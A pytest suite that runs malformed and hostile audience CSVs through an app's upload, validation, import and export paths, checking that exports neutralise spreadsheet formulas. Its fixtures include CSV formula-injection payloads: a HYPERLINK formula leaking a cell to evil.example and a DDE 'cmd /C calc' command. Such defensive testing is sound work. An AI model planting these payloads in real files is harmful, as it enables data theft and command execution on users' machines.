"""Issue 6 item 9: a corpus of bad audience CSVs, through the services the wizard and the import really use.

Each file goes the way an uploaded file goes: `uploads.store_upload` (the server-side copy and its 20 MB
check), then `csv_reader.check_csv` (what the campaign wizard shows), then `contact_import.preview_import` (the
contact import's summary, which must write nothing). Each is either parsed right (the counts and line
numbers asserted exactly) or refused with a specific message, the same one on both paths. Exports must
neutralise formulas: the campaign results CSV (GET /exports/campaigns/{id}.csv, the real route over HTTP)
and the wizard's "download invalid rows" (the real Reflex event path).

The unit rules of the reader live in tests/unit/test_csv_reader.py and the import's behaviour in
tests/integration/test_imports.py; this file feeds them hostile files end to end and records what a
user is told (kind "input" in the hardening report).
"""

from __future__ import annotations

import asyncio
import base64
import codecs
import csv
import io
import random
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass

import httpx
import pytest
from sqlmodel import select

from app.http_api import SESSION_COOKIE, build_http_api
from app.models import CampaignRecipient, Contact, ContactIdentity
from app.services.accounts import auth
from app.services.audiences import contact_import, uploads
from app.services.audiences.contacts import ContactError
from app.services.audiences.csv_reader import MAX_CSV_BYTES, CsvRefused, check_csv, iter_valid_rows
from app.services.campaigns import drafts as campaign_service
from app.services.sending.freeze import freeze_audience
from app.timeutil import utcnow
from tests.support.factories import MAPPING, audience_fingerprint, make_channel, make_template
from tests.support.hardening import record

NO_CC = "Country code missing (start with + and the country code)"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@contextmanager
def recorded(name: str):
    """Record the case as handled only if every assertion in the block held; `detail` is what the user saw."""
    out = {"detail": ""}
    try:
        yield out
    except BaseException as exc:
        record("input", name, ok=False, detail=f"{out['detail']} | FAILED: {type(exc).__name__}: {str(exc)[:200]}")
        raise
    record("input", name, ok=True, detail=out["detail"])


@dataclass(frozen=True)
class Parsed:
    rows: int
    valid: int
    invalid: int
    duplicates: int
    invalid_lines: tuple[tuple[int, str], ...] | None = None  # the first invalid rows: (line, reason)
    valid_lines: tuple[int, ...] | None = None  # lines of the valid rows, in order


@dataclass(frozen=True)
class Refused:
    message: str  # the whole message the wizard shows (the import adds a final ".")


@dataclass(frozen=True)
class Case:
    name: str
    data: Callable[[], bytes]
    expect: Parsed | Refused
    upload_refused: str = ""  # refused already while the server copies the upload


def _rows(*lines: str) -> bytes:
    return "".join(line + "\n" for line in lines).encode("utf-8")


def _big_audience() -> bytes:
    """300,000 rows: 10% invalid numbers, 30% repeats of earlier valid numbers, the rest unique."""
    rng = random.Random(6)
    unique, invalid, repeats = 180_000, 30_000, 90_000
    kinds = ["u"] * unique + ["i"] * invalid + ["d"] * repeats
    rng.shuffle(kinds)
    kinds.insert(0, kinds.pop(kinds.index("u")))  # a repeat needs an earlier number
    bad = ("0412345678", "+61 4123", "not a number", "+999 123 456 789", "")
    out, issued = ["phone,first_name"], []
    for i, kind in enumerate(kinds):
        if kind == "u":
            issued.append(f"+614{10_000_000 + len(issued):08d}")
            out.append(f"{issued[-1]},Ann{i}")
        elif kind == "i":
            out.append(f"{bad[i % len(bad)]},Bad{i}")
        else:
            out.append(f"{rng.choice(issued)},Again{i}")
    return ("\n".join(out) + "\n").encode()


def _exactly(size: int) -> bytes:
    """A valid CSV of exactly `size` bytes (its last value padded)."""
    head = b"phone,note\n+61412345678,"
    return head + b"x" * (size - len(head) - 1) + b"\n"


FORMULA_FILE = _rows(
    "phone,first_name,last_name,city",
    '+61412345678,"=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",Smith,Sydney',
    "+442079460958,@SUM(1+1)*cmd|' /C calc'!A0,Jones,London",
    "+33612345678,+1 555 0100,-2+3,Paris",
    "=1+1,Eve,Hacker,Nowhere",
)

CASES = [
    Case("empty file", lambda: b"", Refused("The file is empty"), upload_refused='"audience.csv" is empty.'),
    Case("header only", lambda: _rows("phone,first_name"), Refused("The file has a header row but no data rows")),
    Case(
        "header only, with a UTF-8 BOM",
        lambda: codecs.BOM_UTF8 + _rows("phone"),
        Refused("The file has a header row but no data rows"),
    ),
    Case(
        "no phone/id column",
        lambda: _rows("mobile,name", "+61412345678,Ann"),
        Refused("No column named phone or id (columns found: mobile, name)"),
    ),
    Case(
        "no header (data on the first line)",
        lambda: _rows("+61412345678,Ann", "+442079460958,Tom"),
        Refused(
            "Header row missing: the first line holds data; add a first line naming the columns, "
            "with one named phone or id"
        ),
    ),
    Case(
        "tab-separated",
        lambda: _rows("phone\tname", "+61412345678\tAnn"),
        Refused("Only comma or semicolon separators are supported (found tabs)"),
    ),
    Case(
        "UTF-16 LE with BOM (Excel 'Unicode text')",
        lambda: "phone,name\n+61412345678,Zoé\n".encode("utf-16"),
        Refused('The file is UTF-16 text; save it as "CSV UTF-8" and upload it again'),
    ),
    Case(
        "UTF-16 BE with BOM",
        lambda: codecs.BOM_UTF16_BE + "phone,name\n+61412345678,Zoé\n".encode("utf-16-be"),
        Refused('The file is UTF-16 text; save it as "CSV UTF-8" and upload it again'),
    ),
    Case(
        "UTF-16 LE without BOM, ASCII only",
        lambda: "phone,name\n+61412345678,Ann\n".encode("utf-16-le"),
        Refused('The file is UTF-16 text; save it as "CSV UTF-8" and upload it again'),
    ),
    Case(
        "Latin-1 with accents",
        lambda: "phone,name\n+61412345678,Ann\n+33612345678,Zoé\n".encode("latin-1"),
        Refused(
            'The file is not UTF-8 text (first bad character on line 3); save it as "CSV UTF-8" and upload it again'
        ),
    ),
    Case(
        "UTF-8 BOM, semicolons, accents",
        lambda: codecs.BOM_UTF8 + "Phone;Prénom\n+33 6 12 34 56 78;Zoé\n0612345678;Noé\n".encode(),
        Parsed(2, 1, 1, 0, ((3, NO_CC),), (2,)),
    ),
    Case(
        "CRLF line ends",
        lambda: b"phone,name\r\n+61412345678,Ann\r\n0412345678,Bob\r\n",
        Parsed(2, 1, 1, 0, ((3, NO_CC),), (2,)),
    ),
    Case(
        "quoted newlines",
        lambda: _rows("phone,note", '+61412345678,"two', 'lines"', '0412345678,"x', "y", 'z"', "+442079460958,ok"),
        Parsed(3, 2, 1, 0, ((4, NO_CC),), (2, 7)),
    ),
    Case(
        "unclosed quote",
        lambda: _rows("phone,note", "+61412345678,ok", '+442079460958,"never closed', "+33612345678,x"),
        Refused("Line 3: a quote opens a value that is never closed"),
    ),
    Case(
        "1 MB field in a name column",
        lambda: b"phone,note\n+61412345678," + b"a" * (1024 * 1024) + b"\n+442079460958,short\n",
        Parsed(2, 2, 0, 0, (), (2, 3)),
    ),
    Case(
        "1 MB field in the phone column",
        lambda: b"phone,note\n" + b"9" * (1024 * 1024) + b",x\n+442079460958,short\n",
        Parsed(2, 1, 1, 0, ((2, NO_CC),), (3,)),
    ),
    Case("exactly 20 MB", lambda: _exactly(MAX_CSV_BYTES), Parsed(1, 1, 0, 0, (), (2,))),
    Case(
        "20 MB + 1 byte",
        lambda: _exactly(MAX_CSV_BYTES + 1),
        Refused(f"File is {MAX_CSV_BYTES + 1:,} bytes; the limit is 20 MB ({MAX_CSV_BYTES:,} bytes)"),
        upload_refused='"audience.csv" is larger than 20 MB, the limit for a CSV file; split it into smaller files.',
    ),
    Case(
        "numbers without country code",
        lambda: _rows("phone", "0412345678", "(02) 9374 4000", "+61412345678", "612345678"),
        Parsed(4, 1, 3, 0, ((2, NO_CC), (3, NO_CC), (5, NO_CC)), (4,)),
    ),
    Case("300,000 rows, 30% duplicates, 10% invalid", _big_audience, Parsed(300_000, 180_000, 30_000, 90_000)),
    Case(
        "NUL byte inside a value",
        lambda: b"phone,name\n+61412345678,Ann\n+442079460958,T\x00om\n",
        Refused(
            'Line 3: the file holds a NUL character (binary data, not text); save it as "CSV UTF-8" and upload it again'
        ),
    ),
    Case(
        "NUL byte inside a quoted multi-line value",
        lambda: b'phone,note\n+61412345678,"a\nb\x00"\n',
        Refused(
            'Line 3: the file holds a NUL character (binary data, not text); save it as "CSV UTF-8" and upload it again'
        ),
    ),
    Case(
        "formulas in name columns",
        lambda: FORMULA_FILE,
        Parsed(4, 3, 1, 0, ((5, "Not a valid phone number"),), (2, 3, 4)),
    ),
]


@pytest.fixture()
def importer(make_user):
    return make_user("advanced")


def _store(data: bytes):
    return uploads.store_upload(io.BytesIO(data), original_name="audience.csv", purpose=campaign_service.UPLOAD_PURPOSE)


@pytest.mark.parametrize("case", [pytest.param(c, id=c.name) for c in CASES])
def test_bad_csv_is_parsed_right_or_refused_clearly(case: Case, session, importer, tmp_path):
    data = case.data()
    with recorded(case.name) as out:
        if case.upload_refused:
            # The server's copy stops at the limit; nothing is left in the private upload dir.
            with pytest.raises(uploads.UploadRefused) as refused:
                _store(data)
            assert str(refused.value) == case.upload_refused
            folder = uploads._folder(campaign_service.UPLOAD_PURPOSE)
            assert list(folder.iterdir()) == []
            path = tmp_path / "audience.csv"  # the readers refuse it as well, with their own words
            path.write_bytes(data)
        else:
            path = _store(data).path
            assert path.read_bytes() == data
        before = audience_fingerprint(session)
        if isinstance(case.expect, Refused):
            with pytest.raises(CsvRefused) as wizard:
                check_csv(path)
            with pytest.raises(ContactError) as imported:
                contact_import.preview_import(session=session, actor=importer, path=path)
            assert str(wizard.value) == case.expect.message
            assert str(imported.value) == case.expect.message.rstrip(".") + "."
            out["detail"] = f"refused: {case.upload_refused or case.expect.message}"
        else:
            want = case.expect
            check = check_csv(path)
            got = (check.rows, check.valid, check.invalid, check.duplicates)
            assert got == (want.rows, want.valid, want.invalid, want.duplicates)
            if want.invalid_lines is not None:
                assert [(r.line, r.reason) for r in check.invalid_rows[: len(want.invalid_lines)]] == list(
                    want.invalid_lines
                )
            assert len(check.invalid_rows) == min(want.invalid, 10_000)
            if want.valid_lines is not None:
                assert [line for line, _, _ in iter_valid_rows(path, check)] == list(want.valid_lines)
            preview = contact_import.preview_import(session=session, actor=importer, path=path)
            # The import also checks the other columns' values: a valid number with a bad value moves to invalid.
            bad_values = preview.invalid - want.invalid
            assert (preview.rows, preview.new + bad_values, preview.duplicates) == (
                want.rows,
                want.valid,
                want.duplicates,
            )
            assert preview.updated == 0 and bad_values >= 0
            shown = "; ".join(f"line {r.line}: {r.reason}" for r in check.invalid_rows[:3])
            out["detail"] = (
                f"parsed: {check.rows:,} rows, {check.valid:,} valid, {check.invalid:,} invalid, "
                f"{check.duplicates:,} duplicates" + (f" ({shown})" if shown else "")
            )
        assert audience_fingerprint(session) == before  # checking a file writes nothing


def test_a_1_mb_value_is_kept_out_of_the_contact_with_its_line(session, importer, tmp_path):
    """The reader accepts a long value (it is data); the import refuses it for that row, by line."""
    with recorded("1 MB value imported into a contact field") as out:
        path = _store(
            b"phone,first_name,note\n+61412345678,Ann," + b"a" * (1024 * 1024) + b"\n+442079460958,Tom,short\n"
        ).path
        result = contact_import.commit_import(session=session, actor=importer, path=path, new_list_name="Long")
        assert (result.created, result.invalid) == (1, 1)
        preview = contact_import.preview_import(session=session, actor=importer, path=path)
        [bad] = preview.invalid_rows
        assert bad.line == 2 and "longer than" in bad.reason
        assert [i.address for i in session.exec(select(ContactIdentity)).all()] == ["+442079460958"]
        out["detail"] = f"line {bad.line}: {bad.reason}; the other row imported"


def test_formulas_are_stored_as_data_by_the_import(session, importer):
    with recorded("formulas imported as plain text") as out:
        path = _store(FORMULA_FILE).path
        result = contact_import.commit_import(session=session, actor=importer, path=path, new_list_name="F")
        assert (result.created, result.invalid) == (3, 1)
        names = {c.first_name for c in session.exec(select(Contact)).all()}
        assert names == {
            '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1 555 0100",
        }
        out["detail"] = "names kept verbatim (neutralised only when exported)"


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_campaign_results_export_neutralises_formulas(session, importer, redis_client):
    """A CSV audience with formulas, frozen into recipients the real way, exported by the real route."""
    with recorded("campaign results CSV export (GET /exports/campaigns/{id}.csv)") as out:
        path = _store(FORMULA_FILE).path
        check = check_csv(path)
        upload = campaign_service.register_upload(
            session=session, actor=importer, path=str(path), original_name="audience.csv", check=check
        )
        channel = make_channel(session, "http://127.0.0.1:9")
        template = make_template(session, channel)
        campaign = campaign_service.create_draft(session=session, actor=importer, name="=cmd|' /C calc'!A0")
        campaign.audience_kind, campaign.audience_upload_id = "csv", upload.id
        campaign.channel_id, campaign.template_id, campaign.variable_mapping = channel.id, template.id, MAPPING
        session.add(campaign)
        session.commit()
        assert freeze_audience(session, campaign, utcnow()) == 3
        # An error title comes from outside (Meta / the Sandbox): hostile too.
        first = session.exec(select(CampaignRecipient).where(CampaignRecipient.campaign_id == campaign.id)).first()
        first.status, first.error_code, first.error_title = "failed", 131026, '=HYPERLINK("http://evil")'
        session.add(first)
        session.commit()
        secret = auth.login(
            session=session, redis_client=redis_client, email=importer.email, password="correct horse battery"
        ).session_secret

        async def get():
            transport = httpx.ASGITransport(app=build_http_api())
            async with httpx.AsyncClient(
                transport=transport, base_url="http://hubcast.test", cookies={SESSION_COOKIE: secret}
            ) as client:
                return await client.get(f"/exports/campaigns/{campaign.id}.csv")

        response = asyncio.run(get())
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        header, body = rows[0], rows[1:]
        assert len(body) == 3
        assert _formula_cells(body) == []
        cells = " ".join(cell for row in body for cell in row)
        for raw in ('=HYPERLINK("http://evil.example/?"&A1,"Click me")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1 555 0100"):
            assert raw in cells  # the data itself is intact, inside a cell that does not start a formula
        assert sorted(row[header.index("number")] for row in body) == [
            "'+33612345678",
            "'+442079460958",
            "'+61412345678",
        ]
        assert '\'=HYPERLINK("http://evil")' in cells
        out["detail"] = f"{len(body)} rows, 0 cells starting with = + - @ tab CR (numbers exported as '+…)"


def _downloaded_text(outcome) -> str:
    for event in outcome.frontend_events:
        for value in event.payload.values():
            text = str(value)
            if "base64," in text:
                encoded = text.split("base64,", 1)[1].strip("\"'` ")
                return base64.b64decode(encoded + "=" * (-len(encoded) % 4)).decode("utf-8")
    raise AssertionError(f"no download in {outcome.frontend_events!r}")


def test_wizard_invalid_rows_download_neutralises_formulas(world, redis_client, reflex_backend, tmp_path):
    """The wizard's "download invalid rows", sent as a real event: the invalid values are the file's own."""
    from state.wizard_setup import WizardSetupState
    from tests.support.reflex_client import cookie_for, event_name

    with recorded("wizard 'download invalid rows' export") as out:
        path = tmp_path / "formulas.csv"
        path.write_bytes(
            _rows("phone,name", "=1+1,Eve", "@SUM(A1),Mallory", "+0,Trudy", "-1,Oscar", "+61412345678,Ann")
        )
        check = check_csv(path)
        cookie, _ = cookie_for(world, "advanced", redis_client)

        async def scenario(new_client):
            client = new_client()
            await client.connect(cookie)
            wizard = await client.substate(WizardSetupState)
            # What handle_upload keeps after checking the file (a backend-only var).
            wizard._invalid_all = [
                {"line": str(r.line), "value": r.value, "reason": r.reason} for r in check.invalid_rows
            ]
            outcome = await client.send(event_name(WizardSetupState, "download_invalid"), {}, path="/campaigns/new")
            await client.close()
            return outcome

        outcome = reflex_backend(scenario)
        assert not outcome.exceptions, outcome.exceptions
        rows = list(csv.reader(io.StringIO(_downloaded_text(outcome))))
        assert rows[0] == ["line", "value", "reason"]
        assert [r[:2] for r in rows[1:]] == [["2", "'=1+1"], ["3", "'@SUM(A1)"], ["4", "'+0"], ["5", "'-1"]]
        assert _formula_cells(rows) == []
        out["detail"] = f"{len(rows) - 1} invalid rows exported, every formula prefixed with '"
